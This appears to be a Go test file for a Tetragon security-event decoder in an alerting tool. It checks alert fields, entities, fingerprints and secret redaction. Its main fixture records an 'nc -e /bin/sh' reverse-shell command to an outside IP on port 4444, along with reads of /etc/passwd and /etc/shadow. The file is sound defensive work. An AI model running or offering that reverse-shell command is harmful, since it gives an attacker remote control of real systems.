package tetragon

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/tocsin-dev/tocsin/internal/engine/model"
	"github.com/tocsin-dev/tocsin/internal/ingest/decode"
	"github.com/tocsin-dev/tocsin/internal/ingest/hostile"
)

const (
	container = "5892b41bcf46aabbccddeeff00112233445566778899aabbccddeeff00112233"
	digest    = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
)

const killed = `{"process_kprobe": {
  "process": {"exec_id": "d29ya2VyLTE6MTox", "pid": 4711, "uid": 0, "cwd": "/", "binary": "/usr/bin/nc", "arguments": "-e /bin/sh 203.0.113.7 4444",
    "start_time": "2026-03-04T05:06:04Z", "auid": 4294967295,
    "pod": {"namespace": "shop", "name": "cart-0", "workload": "cart", "workload_kind": "StatefulSet", "pod_labels": {"app": "cart"},
      "container": {"id": "containerd://` + container + `", "name": "cart", "image": {"id": "docker.io/library/alpine@` + digest + `", "name": "docker.io/library/alpine:3"}}},
    "docker": "5892b41bcf46aab", "parent_exec_id": "d29ya2VyLTE6MTow"},
  "parent": {"binary": "/bin/sh", "arguments": "-c run"},
  "function_name": "tcp_connect", "policy_name": "no-egress", "action": "KPROBE_ACTION_SIGKILL", "message": "Connection out of the cluster",
  "tags": ["egress", "mitre_command_and_control", "T1571"],
  "args": [{"sock_arg": {"family": "AF_INET", "saddr": "10.0.0.5", "daddr": "203.0.113.7", "sport": 43210, "dport": 4444}}, {"int_arg": 16}, {"file_arg": {"path": "etc/passwd"}},
    {"bytes_arg": "c2VjcmV0"}]},
 "node_name": "Worker-1", "time": "2026-03-04T05:06:05.123456789Z"}`

func asset(kind model.EntityKind, name string, role model.Role) model.Entity {
	return model.Entity{Key: model.Key{Kind: kind, Name: name}, Role: role, Category: model.CategoryAsset}
}

func evidence(kind model.EntityKind, name string, role model.Role) model.Entity {
	return model.Entity{Key: model.Key{Kind: kind, Name: name}, Role: role, Category: model.CategoryEvidence}
}

func decodeOne(t *testing.T, event string) model.Alert {
	t.Helper()
	alerts := hostile.Alerts(t, hostile.Body(t, Decoder{}, []byte(event)))
	if len(alerts) != 1 {
		t.Fatalf("%d alerts", len(alerts))
	}
	return alerts[0]
}

func TestDecode(t *testing.T) {
	when := time.Date(2026, 3, 4, 5, 6, 5, 123456789, time.UTC)
	got := decodeOne(t, killed)
	want := model.Alert{
		Service: "tetragon", Detection: "no-egress", Rule: "no-egress", Title: "Connection out of the cluster",
		Description: "tcp_connect(203.0.113.7:4444, 16, /etc/passwd)\nProcess: /usr/bin/nc -e /bin/sh 203.0.113.7 4444\nParent: /bin/sh -c run\nEnforced: SIGKILL",
		Severity:    model.SeverityHigh,
		Tactics:     []model.Tactic{model.TacticCommandAndControl},
		Techniques:  []string{"T1571"},
		First:       when, Last: when,
		Fingerprint: got.Fingerprint,
		Entities: []model.Entity{
			asset(model.KindPod, "shop/cart-0", model.RoleAttacked),
			asset(model.KindWorkload, "shop/StatefulSet/cart", model.RoleAttacked),
			asset(model.KindContainer, container[:12], model.RoleAttacked),
			evidence(model.KindImage, digest, model.RoleContextual),
			asset(model.KindNode, "worker-1", model.RoleContextual),
			evidence(model.KindProcess, container[:12]+":/usr/bin/nc", model.RoleSuspicious),
			evidence(model.KindIP, "10.0.0.5", model.RoleSource),
			evidence(model.KindIP, "203.0.113.7", model.RoleDestination),
			evidence(model.KindFile, container[:12]+":/etc/passwd", model.RoleSuspicious),
		},
		Occurrences: 1,
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestKindsOfSignal(t *testing.T) {
	for name, tc := range map[string]struct {
		event, rule, title string
		severity           model.Severity
	}{
		"a policy without a message": {`{"process_kprobe": {"policy_name": "p", "function_name": "f"}}`, "p", "p", model.SeverityMedium},
		"no policy named":            {`{"process_kprobe": {"function_name": "__x64_sys_setns", "process": {"binary": "/bin/su"}}}`, "__x64_sys_setns", "/bin/su __x64_sys_setns", model.SeverityMedium},
		"a tracepoint":               {`{"process_tracepoint": {"subsys": "syscalls", "event": "sys_enter_bpf"}}`, "syscalls:sys_enter_bpf", "syscalls:sys_enter_bpf", model.SeverityMedium},
		"a uprobe":                   {`{"process_uprobe": {"path": "/bin/bash", "symbol": "readline"}}`, "/bin/bash:readline", "/bin/bash:readline", model.SeverityMedium},
		"an LSM hook that denies":    {`{"process_lsm": {"policy_name": "p", "function_name": "bprm_check_security", "action": "KPROBE_ACTION_OVERRIDE"}}`, "p", "p", model.SeverityHigh},
		"a signal to the enforcer":   {`{"process_usdt": {"policy_name": "p", "action": "KPROBE_ACTION_NOTIFYENFORCER"}}`, "p", "p", model.SeverityHigh},
	} {
		t.Run(name, func(t *testing.T) {
			got := decodeOne(t, tc.event)
			if got.Rule != tc.rule || got.Title != tc.title || got.Severity != tc.severity {
				t.Errorf("rule %q, title %q, %s", got.Rule, got.Title, got.Severity)
			}
		})
	}
}

func TestEntities(t *testing.T) {
	for name, tc := range map[string]struct {
		event string
		want  []model.Entity
	}{
		"on the host": {
			`{"process_kprobe": {"function_name": "f", "process": {"binary": "/usr/sbin/insmod", "user": {"name": "ahmed"}}, "args": [{"module_arg": {"name": "evil"}}]}, "node_name": "x86"}`,
			[]model.Entity{
				asset(model.KindNode, "x86", model.RoleAttacked),
				evidence(model.KindUser, `x86\ahmed`, model.RoleSuspicious),
				evidence(model.KindProcess, "x86:/usr/sbin/insmod", model.RoleSuspicious),
			},
		},
		"a pod that Tetragon does not know": {
			`{"process_kprobe": {"function_name": "f", "process": {"binary": "/bin/sh", "docker": "5892b41bcf46aab"}}, "node_name": "x86"}`,
			[]model.Entity{
				asset(model.KindContainer, container[:12], model.RoleAttacked),
				asset(model.KindNode, "x86", model.RoleContextual),
				evidence(model.KindProcess, container[:12]+":/bin/sh", model.RoleSuspicious),
			},
		},
		"a pod of nobody": {
			`{"process_kprobe": {"function_name": "f", "process": {"pod": {"namespace": "shop", "name": "cart", "workload": "cart", "workload_kind": "Pod"}}}}`,
			[]model.Entity{asset(model.KindPod, "shop/cart", model.RoleAttacked)},
		},
		"an address to connect to": {
			`{"process_lsm": {"function_name": "socket_connect", "args": [{"sockaddr_arg": {"family": "AF_INET", "addr": "203.0.113.7", "port": 4444}}], "ima_hash": "` + digest + `"}}`,
			[]model.Entity{
				evidence(model.KindIP, "203.0.113.7", model.RoleDestination),
				evidence(model.KindFile, digest, model.RoleSuspicious),
			},
		},
		"nothing known": {`{"process_kprobe": {"function_name": "f", "ima_hash": "sha1:00"}}`, nil},
	} {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(tc.want, decodeOne(t, tc.event).Entities); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestNoAlert(t *testing.T) {
	for name, tc := range map[string]struct {
		event, message string
		drop           decode.Drop
	}{
		"a program starts":       {event: `{"process_exec": {"process": {}}}`, drop: decode.DropTelemetry},
		"a kind of later":        {event: `{"process_flight": {}}`, drop: decode.DropTelemetry},
		"events were left out":   {event: `{"process_throttle": {"type": "THROTTLE_START"}}`, drop: decode.DropHealth},
		"the limit of an export": {event: `{"rate_limit_info": {"number_of_dropped_process_events": 7}}`, drop: decode.DropHealth},
		"no kind":                {event: `{"node_name": "x"}`, message: errNoEvent.Error()},
		"no policy":              {event: `{"process_kprobe": {"args": []}}`, message: "process_kprobe.policy_name: is missing, and so is function_name; a signal names the policy it comes from"},
		"no object":              {event: `{"process_lsm": 7}`, message: "process_lsm.policy_name: is missing, and so is function_name; a signal names the policy it comes from"},
	} {
		t.Run(name, func(t *testing.T) {
			got := hostile.Body(t, Decoder{}, []byte(tc.event))
			if len(got) != 1 || got[0].Drop != tc.drop || (got[0].Err == nil) != (tc.message == "") || got[0].Err != nil && got[0].Err.Error() != tc.message {
				t.Errorf("got %+v", got)
			}
		})
	}
}

func TestFingerprint(t *testing.T) {
	for name, tc := range map[string]struct {
		old, new string
		same     bool
	}{
		"another process":  {`"pid": 4711`, `"pid": 4712`, true},
		"another start":    {"d29ya2VyLTE6MTox", "d29ya2VyLTE6Mjoy", true},
		"another time":     {"05:06:05.1", "05:06:06.1", true},
		"another port":     {`"sport": 43210`, `"sport": 43211`, true},
		"another size":     {`"int_arg": 16`, `"int_arg": 28`, true},
		"another peer":     {`"daddr": "203.0.113.7"`, `"daddr": "203.0.113.8"`, false},
		"another file":     {"etc/passwd", "etc/shadow", false},
		"another program":  {"/usr/bin/nc", "/usr/bin/curl", false},
		"another policy":   {"no-egress", "egress", false},
		"another function": {"tcp_connect", "tcp_sendmsg", false},
		"another pod":      {"cart-0", "cart-1", false},
		"another cluster":  {`"node_name"`, `"cluster_name": "prod-2", "node_name"`, false},
	} {
		t.Run(name, func(t *testing.T) {
			other := strings.Replace(killed, tc.old, tc.new, 1)
			if same := decodeOne(t, other).Fingerprint == decodeOne(t, killed).Fingerprint; same != tc.same || other == killed {
				t.Errorf("same fingerprint: %v, want %v", same, tc.same)
			}
		})
	}
	named := hostile.Alerts(t, hostile.Body(t, Decoder{Cluster: "prod"}, []byte(killed)))[0]
	if named.Fingerprint == decodeOne(t, killed).Fingerprint {
		t.Error("the cluster of the source makes no difference")
	}
}

func TestSecretsAreHidden(t *testing.T) {
	got := decodeOne(t, `{"process_kprobe": {"policy_name": "p", "process": {"binary": "curl", "arguments": "-H 'Authorization: Bearer abcdefgh12345678'"}}}`)
	if strings.Contains(got.Description, "abcdefgh") {
		t.Error(got.Description)
	}
	if got := decodeOne(t, killed).Description; strings.Contains(got, "c2VjcmV0") {
		t.Error(got)
	}
}

func TestHostile(t *testing.T) { hostile.Alter(t, Decoder{}, killed) }

func TestSent(t *testing.T) { hostile.Sent(t, Decoder{}, killed) }

func FuzzDecode(f *testing.F) {
	hostile.Fuzz(f, Decoder{}, killed, `{"process_exec": {}}`, `{"process_kprobe": null, "process_lsm": []}`, `{"process_uprobe": {"path": 7, "args": [{}, 1]}}`)
}
